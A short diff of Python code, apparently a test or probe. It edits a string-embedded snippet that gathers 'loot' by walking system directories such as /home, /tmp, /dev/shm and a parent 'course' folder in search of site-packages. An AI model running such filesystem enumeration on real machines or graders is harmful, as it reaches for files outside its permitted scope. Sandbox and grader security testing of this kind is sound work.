@@ -73,8 +73,9 @@ for top in filter(None, tops):
         first=SEARCH_TEXT
         + """
 import os
-loot, tops = [], ["/env", "/home", "/srv", "/var", "/opt", "/tmp", "/dev/shm", "/run",
-    os.getcwd(), os.path.join(os.getcwd(), "..", "..", "..")]
+loot, tops = [], ["/env", "/home", "/srv", "/var/tmp", "/opt", "/tmp", "/dev/shm", "/run"]
+course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
+tops += [course] if course != "/" else []
 for top in tops:
     for folder, folders, files in os.walk(top):
         if folder.endswith("site-packages"):
